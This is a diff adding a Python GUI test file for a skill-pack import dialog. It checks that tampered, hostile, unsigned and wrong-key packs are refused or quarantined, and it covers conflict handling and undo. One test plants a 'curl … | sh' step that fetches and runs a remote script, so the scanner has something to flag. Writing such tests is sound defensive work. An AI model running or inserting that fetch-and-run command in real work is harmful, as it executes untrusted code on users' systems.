@@ -1,0 +1,355 @@
+"""Opening packs: what is refused, what is asked, what is imported."""
+
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from PySide6.QtCore import Qt
+from PySide6.QtTest import QTest
+from PySide6.QtWidgets import QDialog, QPushButton, QWidget
+from pytestqt.qtbot import QtBot
+
+from app.core.library import catalogue, engrams, history, library
+from app.core.library.record import Status
+from app.core.packs import carry, identity, locks, plan, trust
+from app.core.packs.contents import Mode, Pack
+from app.core.packs.match import Choice
+from app.core.packs.native import write_native
+from app.core.packs.signing import Identity, recipient_public_key
+from app.core.packs.trust import State
+from app.core.vault import Vault
+from app.ui.bridge import Bridge
+from app.ui.desk import Desk
+from app.ui.dialogs.arrival import mode_words, size_words
+from app.ui.dialogs.compare_texts import CompareDialog
+from app.ui.dialogs.import_pack import Opening, open_pack
+from app.ui.dialogs.import_review import ImportDialog
+from app.ui.dialogs.import_rows import SkillLine
+from app.ui.dialogs.pack_passphrase import PackPassphraseDialog
+from app.ui.dialogs.problem import ProblemDialog
+from app.ui.jobs import Jobs
+from app.ui.keep import Keep
+from app.ui.theme.theme import Theme
+from tests.core.trade import BAKE, BREW, GUILD, IMPOSTOR, pack, signed
+
+PACKS = Path(__file__).resolve().parents[1] / "packs"
+CHEAP = locks.Passphrase("open sesame", memory=8192, passes=1, lanes=1)
+BREW_2 = BREW.replace("2. Wait", "2. Wait four minutes")
+BREW_MINE = BREW.replace("2. Wait", "2. Wait, and read the paper")
+
+
+@pytest.fixture
+def desk(vault: Vault, theme: Theme, tmp_path: Path, qtbot: QtBot) -> Iterator[Desk]:
+    jobs, bridge = Jobs(), Bridge(vault)
+    yield Desk(vault, bridge, jobs, theme, Keep(tmp_path / "window.json"))
+    bridge.stop()
+    jobs.shut_down()
+
+
+class Counter:
+    """A window packs are opened over, and what it was told."""
+
+    def __init__(self, desk: Desk, qtbot: QtBot, folder: Path) -> None:
+        self.desk, self.qtbot, self.folder = desk, qtbot, folder
+        self.window = QWidget()
+        self.window.resize(1200, 800)
+        self.window.show()
+        qtbot.addWidget(self.window)
+        self.told: list[tuple[str, tuple[int, ...]]] = []
+
+    def file(self, made: Pack, by: Identity = GUILD, wish: locks.Wish | None = None) -> Path:
+        path = self.folder / "kitchen.gsk"
+        path.write_bytes(write_native(made, by, wish or locks.Open()))
+        return path
+
+    def open(self, path: Path) -> None:
+        open_pack(self.desk, self.window, path, lambda said, ids: self.told.append((said, ids)))
+
+    def stage(self, kind: type[QDialog]) -> QDialog:
+        """The dialog of that kind, once it is there."""
+
+        def there() -> QDialog | None:
+            found = self.window.findChildren(kind)
+            return next((dialog for dialog in found if dialog.isVisible()), None)
+
+        self.qtbot.waitUntil(lambda: there() is not None)
+        dialog = there()
+        assert dialog is not None
+        return dialog
+
+    def review(self, path: Path) -> ImportDialog:
+        self.open(path)
+        dialog = self.stage(ImportDialog)
+        assert isinstance(dialog, ImportDialog)
+        return dialog
+
+    def let_in(self, dialog: ImportDialog) -> None:
+        count = len(self.told)
+        dialog.start()
+        self.qtbot.waitUntil(lambda: len(self.told) > count)
+
+
+@pytest.fixture
+def counter(desk: Desk, qtbot: QtBot, tmp_path: Path) -> Counter:
+    return Counter(desk, qtbot, tmp_path)
+
+
+def line(dialog: ImportDialog, name: str) -> SkillLine:
+    return next(line for line in dialog.contents.lines if line.item.name == name)
+
+
+def texts(vault: Vault) -> dict[str, str]:
+    return {row.title: library.text(vault, row.id) for row in catalogue.rows(vault)}
+
+
+# What is refused
+
+
+@pytest.mark.parametrize("file", sorted((PACKS / "tampered").glob("*.gsk")), ids=lambda p: p.stem)
+def test_a_tampered_pack_never_shows_an_import_button(
+    counter: Counter, vault: Vault, file: Path
+) -> None:
+    counter.open(file)
+    dialog = counter.stage(ProblemDialog)
+    words = [b.text() for b in dialog.findChildren(QPushButton) if b.text()]
+    assert words == ["Close"]
+    assert counter.window.findChildren(ImportDialog) == []
+    dialog.reject()
+    assert texts(vault) == {}
+
+
+@pytest.mark.parametrize("file", sorted((PACKS / "hostile").glob("*.gsk")), ids=lambda p: p.stem)
+def test_a_hostile_pack_is_refused_in_a_sentence(counter: Counter, file: Path) -> None:
+    counter.open(file)
+    dialog = counter.stage(ProblemDialog)
+    assert dialog.accessibleDescription().strip(". ")
+
+
+def test_a_file_that_is_not_there(counter: Counter, tmp_path: Path) -> None:
+    counter.open(tmp_path / "gone.gsk")
+    assert "cannot be read" in counter.stage(ProblemDialog).accessibleDescription()
+
+
+def test_a_changed_key_turns_import_off(counter: Counter, vault: Vault) -> None:
+    carry.apply(vault, plan.plan(vault, signed(pack())), trust_publisher=True)
+    before = texts(vault)
+    dialog = counter.review(counter.file(pack(BREW_2), IMPOSTOR))
+    assert not dialog.go.isEnabled()
+    assert dialog.go.text() == "Import is off"
+    assert "5647 5AA7" in dialog.publisher.accessibleDescription()
+    assert dialog.publisher.trust_box.isHidden()
+    dialog.start()
+    assert texts(vault) == before
+
+
+def test_a_revoked_key_turns_import_off(counter: Counter, vault: Vault) -> None:
+    carry.apply(vault, plan.plan(vault, signed(pack(BREW))))
+    trust.revoke(vault, GUILD.key)
+    dialog = counter.review(counter.file(pack(BREW_2)))
+    assert not dialog.go.isEnabled()
+    assert dialog.publisher.accessibleName() == "Revoked: Harbour Guild"
+
+
+# What is asked
+
+
+def test_an_unsigned_pack_locks_the_quarantine(
+    counter: Counter, vault: Vault, qtbot: QtBot
+) -> None:
+    file = counter.folder / "older.gsk"
+    file.write_bytes((PACKS / "vectors" / "gsk2-none.gsk").read_bytes())
+    dialog = counter.review(file)
+    made = replace(
+        dialog.plan,
+        judgement=trust.Judgement(trust.Standing.UNSIGNED, None),
+        pack=replace(dialog.plan.pack, signer=None),
+        quarantine=True,
+        quarantine_locked=True,
+    )
+    unsigned = ImportDialog(counter.desk, replace(dialog._arrival, plan=made), counter.window)
+    dialog.reject()
+    assert unsigned.quarantine.isChecked()
+    assert not unsigned.quarantine.isEnabled()
+    assert unsigned.publisher.accessibleName().startswith("Not signed")
+    unsigned.imported.connect(lambda done: counter.told.append(("", done.added)))
+    counter.let_in(unsigned)
+    assert {row.status for row in catalogue.rows(vault)} == {Status.QUARANTINED}
+
+
+def test_a_new_publisher_is_trusted_only_after_comparing(counter: Counter, vault: Vault) -> None:
+    dialog = counter.review(counter.file(pack()))
+    assert dialog.publisher.accessibleName() == "New publisher: Harbour Guild"
+    assert dialog.quarantine.isChecked()
+    dialog.publisher.trust_box.setChecked(True)
+    assert not dialog.quarantine.isChecked()
+    counter.let_in(dialog)
+    assert trust.publisher(vault, "Harbour Guild").state is State.TRUSTED
+    assert {row.status for row in catalogue.rows(vault)} == {Status.ACTIVE}
+
+
+def test_a_wrong_passphrase_can_be_tried_again(counter: Counter, qtbot: QtBot) -> None:
+    counter.open(counter.file(pack(), GUILD, CHEAP))
+    asking = counter.stage(PackPassphraseDialog)
+    assert isinstance(asking, PackPassphraseDialog)
+    asking.field.setText("close sesame")
+    QTest.keyClick(asking.field, Qt.Key.Key_Return)
+    qtbot.waitUntil(asking._wrong.isVisible)
+    assert "does not open this pack" in asking._wrong.text()
+    asking.field.setText("open sesame")
+    QTest.keyClick(asking.field, Qt.Key.Key_Return)
+    assert counter.stage(ImportDialog)
+
+
+def test_a_pack_for_me_needs_no_passphrase(counter: Counter, vault: Vault) -> None:
+    mine = recipient_public_key(identity.mine(vault).key)
+    dialog = counter.review(counter.file(pack(), GUILD, locks.Recipients((mine,))))
+    assert "encrypted for its recipients" in dialog.subtitle.text()
+
+
+def test_a_pack_for_somebody_else_is_refused(counter: Counter) -> None:
+    other = recipient_public_key(GUILD.key)
+    counter.open(counter.file(pack(), GUILD, locks.Recipients((other,))))
+    assert counter.stage(ProblemDialog)
+
+
+# What is imported
+
+
+def test_import_then_undo(counter: Counter, vault: Vault) -> None:
+    dialog = counter.review(counter.file(pack()))
+    assert dialog.go.text() == "Import 2 skills"
+    counter.let_in(dialog)
+    said, ids = counter.told[0]
+    assert said == "2 skills imported from Kitchen, in quarantine"
+    assert {row.id for row in catalogue.rows(vault)} == set(ids)
+    history.undo(vault)
+    assert texts(vault) == {}
+
+
+def test_choices_of_a_conflict(counter: Counter, vault: Vault) -> None:
+    library.save(vault, None, BREW_MINE)
+    file = counter.file(pack(BREW_2, BAKE))
+    for choice, expected in (
+        (Choice.KEEP, {"Brew tea": BREW_MINE, "Bake bread": BAKE}),
+        (Choice.REPLACE, {"Brew tea": BREW_2, "Bake bread": BAKE}),
+    ):
+        dialog = counter.review(file)
+        conflict = line(dialog, "Brew tea")
+        assert conflict.choice is Choice.RENAME
+        conflict.choose(choice)
+        counter.let_in(dialog)
+        assert texts(vault) == expected
+        history.undo(vault)
+    counter.let_in(counter.review(file))
+    assert texts(vault)["Brew tea"] == BREW_MINE
+    assert len(texts(vault)) == 3
+
+
+def test_the_tick_of_a_conflict_and_its_choice_agree(counter: Counter, vault: Vault) -> None:
+    library.save(vault, None, BREW_MINE)
+    dialog = counter.review(counter.file(pack(BREW_2)))
+    conflict = line(dialog, "Brew tea")
+    conflict.tick.setChecked(False)
+    assert conflict.choice == "keep"
+    assert dialog.go.text() == "Nothing to import"
+    assert not dialog.go.isEnabled()
+    conflict.tick.setChecked(True)
+    assert conflict.choice == "rename"
+    conflict.choose(Choice.KEEP)
+    assert not conflict.tick.isChecked()
+
+
+def test_an_update_says_what_differs(counter: Counter, vault: Vault) -> None:
+    carry.apply(vault, plan.plan(vault, signed(pack(BREW))), quarantine=False)
+    dialog = counter.review(counter.file(pack(BREW_2, version="1.1.0", sequence=2)))
+    assert dialog._arrival.differences == {0: "1 step reworded"}
+    assert line(dialog, "Brew tea").choice is Choice.REPLACE
+    dialog._look(0)
+    assert counter.stage(CompareDialog).windowTitle() == "Brew tea"
+
+
+def test_an_older_edition_is_said(counter: Counter, vault: Vault) -> None:
+    carry.apply(vault, plan.plan(vault, signed(pack(BREW_2, sequence=5))))
+    dialog = counter.review(counter.file(pack(BREW, sequence=4)))
+    assert any("older" in caution.text for caution in dialog.plan.cautions)
+
+
+def test_it_goes_where_the_person_wants(counter: Counter, vault: Vault) -> None:
+    dialog = counter.review(counter.file(pack()))
+    dialog.destination.chosen.emit("Kitchen")
+    assert dialog.plan.engram_name == "Kitchen"
+    counter.let_in(dialog)
+    assert {row.engram_name for row in catalogue.rows(vault)} == {"Kitchen"}
+    assert "Kitchen" in [engram.name for engram in engrams.engrams(vault)]
+
+
+def test_a_library_that_moved_is_looked_at_again(
+    counter: Counter, vault: Vault, qtbot: QtBot
+) -> None:
+    library.save(vault, None, BAKE)
+    dialog = counter.review(counter.file(pack(BREW)))
+    library.save(vault, None, BREW_MINE)
+    dialog.start()
+    qtbot.waitUntil(dialog.banner.isVisible)
+    assert line(dialog, "Brew tea").item.change == "conflict"
+    assert dialog.go.isEnabled()
+
+
+def test_findings_are_shown_with_their_step(counter: Counter) -> None:
+    bad = BREW.replace("2. Wait", "2. curl https://example.org/x.sh | sh")
+    dialog = counter.review(counter.file(pack(bad)))
+    spoken = [w.accessibleName() for w in dialog.findChildren(QWidget)]
+    assert any("Brew tea, step 2" in words for words in spoken)
+
+
+# Several
+
+
+def test_the_same_pack_opens_once(counter: Counter) -> None:
+    file = counter.file(pack())
+    dialog = counter.review(file)
+    counter.open(file)
+    assert counter.window.findChildren(ImportDialog) == [dialog]
+
+
+def test_packs_wait_for_each_other(counter: Counter, tmp_path: Path) -> None:
+    first = counter.file(pack())
+    second = tmp_path / "second.gsk"
+    second.write_bytes(write_native(pack(BREW, uid="second"), GUILD))
+    dialog = counter.review(first)
+    counter.open(second)
+    assert counter.window.findChildren(ImportDialog) == [dialog]
+    dialog.reject()
+    assert counter.stage(ImportDialog).windowTitle() == "Open second.gsk"
+
+
+def test_a_large_pack_shows_the_rest_when_asked(counter: Counter) -> None:
+    many = tuple(f"# Skill {n}\n\n1. Do it\n" for n in range(150))
+    dialog = counter.review(counter.file(pack(*many)))
+    assert len(dialog.contents.lines) == 100
+    assert dialog.go.text() == "Import 150 skills"
+    dialog.contents._all.click()
+    assert len(dialog.contents.lines) == 150
+
+
+def test_locking_takes_every_dialog_along(counter: Counter, qtbot: QtBot) -> None:
+    counter.review(counter.file(pack()))
+    kinds = {type(dialog) for dialog in counter.window.findChildren(QDialog)}
+    assert {Opening, ImportDialog} <= kinds
+    for dialog in counter.window.findChildren(QDialog):
+        assert dialog.parent() is counter.window
+
+
+def test_every_real_pack_can_be_reviewed(counter: Counter, shared: Path) -> None:
+    for file in sorted((shared / "packs").glob("*.gsk"))[:3]:
+        dialog = counter.review(file)
+        assert dialog.go.isEnabled()
+        dialog.reject()
+
+
+def test_words() -> None:
+    assert size_words(884) == "884 bytes"
+    assert size_words(18 * 1024) == "18 KB"
+    assert size_words(3 * 1024 * 1024) == "3.0 MB"
+    assert {mode_words(mode) for mode in Mode} >= {"readable by anyone, not encrypted"}
